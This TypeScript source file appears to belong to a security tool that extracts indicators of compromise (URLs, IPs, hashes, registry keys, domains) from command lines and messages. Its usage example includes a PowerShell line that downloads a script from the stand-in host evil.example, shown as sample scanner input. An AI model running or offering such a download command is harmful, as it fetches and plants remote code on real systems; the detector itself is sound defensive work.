/**
 * The fallback for fields the table does not name: tokens that look like indicators, found anywhere in a
 * string (a command line, a message): URLs, IPv4 addresses, hex runs of hash length, registry paths, and
 * dotted names (looked up as domains and as file names). A whole value that is an IPv6 address is looked up
 * too. The patterns are linear: each repetition is anchored on a delimiter, so long inputs cannot backtrack.
 */
import { emitCandidates, emitHost, type Emit } from './candidates.js';
import { parseEventAddress } from './ip.js';

/** Longest text scanned; the rest of a longer value is ignored. */
export const MAX_SCAN_LENGTH = 65_536;

const URLS = /\b[a-z][a-z0-9+.-]{1,15}:\/\/[^\s"'<>`]+/gi;
const IPV4 = /(?<![\d.])(?:\d{1,3}\.){3}\d{1,3}(?![\d.])/g;
const HEX = /(?<![0-9a-f])[0-9a-f]{32,128}(?![0-9a-f])/gi;
const REGISTRY = /(?<![\w\\])(?:hklm|hkcu|hku|hkcr|hkcc|hkey_[a-z_]{4,20}|\\registry\\(?:machine|user))\\[^\s"'|,;]+/gi;
const NAMES = /(?<![\w.-])(?:[a-z0-9_-]{1,63}\.)+[a-z][a-z0-9-]{1,62}(?![\w-])/gi;

/**
 * Emits every indicator-like token of a text.
 *
 * @example
 * scanText('powershell iwr http://evil.example/a.ps1 -o C:\\x\\a.ps1', emit); // url, domain evil.example, file a.ps1...
 */
export function scanText(text: string, emit: Emit): void {
  const body = text.length > MAX_SCAN_LENGTH ? text.slice(0, MAX_SCAN_LENGTH) : text;
  const trimmed = body.trim();
  if (trimmed.includes(':') && !trimmed.includes(' ') && parseEventAddress(trimmed)?.family === 6) emit('ip', trimmed);
  for (const [match] of body.matchAll(URLS)) emitCandidates('url', match, emit);
  for (const [match] of body.matchAll(IPV4)) emitCandidates('ip', match, emit);
  for (const [match] of body.matchAll(HEX)) emitCandidates('hash', match, emit);
  for (const [match] of body.matchAll(REGISTRY)) emitCandidates('registry-key', match, emit);
  for (const [match] of body.matchAll(NAMES)) {
    emitHost(match, emit);
    emitCandidates('file-path', match, emit);
  }
}
